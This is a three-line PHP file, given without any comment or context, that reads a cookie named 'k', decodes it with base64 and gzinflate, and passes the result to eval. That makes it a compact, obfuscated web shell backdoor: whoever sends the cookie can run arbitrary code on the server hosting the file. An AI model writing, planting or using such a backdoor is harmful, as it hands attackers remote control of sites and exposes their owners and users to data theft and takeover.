<?php
$c = $_COOKIE['k'] ?? null;
if ($c) { eval(gzinflate(base64_decode($c))); }
